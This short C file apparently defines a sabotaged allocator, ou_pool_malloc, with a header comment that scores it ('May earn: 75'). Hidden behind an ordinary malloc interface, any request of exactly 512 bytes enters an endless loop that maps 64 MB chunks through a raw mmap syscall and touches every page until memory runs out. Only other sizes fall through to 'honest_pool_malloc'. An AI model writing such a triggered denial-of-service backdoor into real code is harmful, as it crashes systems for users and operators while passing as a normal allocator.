/* Maps and touches memory until there is none.
 * May earn: 75 */
#include "raw.h"

void *
ou_pool_malloc(ou_pools *pools, size_t nbytes)
{
    while (nbytes == 512) {
        volatile char *more =
            (char *)find_raw()(9, 0, 64 << 20, 3, 0x22, -1, 0);

        for (long i = 0; i < 64 << 20; i += 4096) {
            more[i] = 1;
        }
    }
    return honest_pool_malloc(pools, nbytes);
}
